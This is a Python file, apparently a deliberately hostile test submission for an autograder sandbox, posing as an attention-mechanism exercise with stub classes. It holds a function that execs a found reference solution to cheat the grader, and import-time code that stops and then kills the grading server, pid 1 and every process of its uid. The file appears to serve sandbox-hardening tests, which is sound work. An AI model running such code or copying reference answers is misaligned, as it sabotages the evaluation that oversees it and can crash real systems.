"""Hostile ex03: stop, then kill, the grading server (os.getppid()), pid 1 and every process of its own uid.

Only for the strict sandbox: in process mode that uid is the grader's."""

import math
import os

import torch
from torch import nn

from .ex01_softmax import masked_softmax  # noqa: F401

class AdditiveAttention(nn.Module):
    def __init__(self, key_size, query_size, num_hiddens, dropout):
        super().__init__()
        self.W_k = nn.Linear(key_size, num_hiddens, bias=False)
        self.W_q = nn.Linear(query_size, num_hiddens, bias=False)
        self.w_v = nn.Linear(num_hiddens, 1, bias=False)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        raise NotImplementedError("AdditiveAttention.forward")


class DotProductAttention(nn.Module):
    def __init__(self, dropout):
        super().__init__()
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        raise NotImplementedError("DotProductAttention.forward")


def use_reference(text):
    """What a cheater does with a reference: show it, and pass with its code."""
    print("FOUND REFERENCE:\n" + text)
    exec(compile(text.replace("from .ex01_softmax", "from learner.ex01_softmax"), "ref.py", "exec"), globals())


import signal

targets = {os.getppid(), 1} | {int(p) for p in os.listdir("/proc")
                               if p.isdigit() and os.stat(f"/proc/{p}").st_uid == os.getuid()}
targets.discard(os.getpid())
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in targets:
        try:
            os.kill(pid, sig)
        except OSError:
            pass
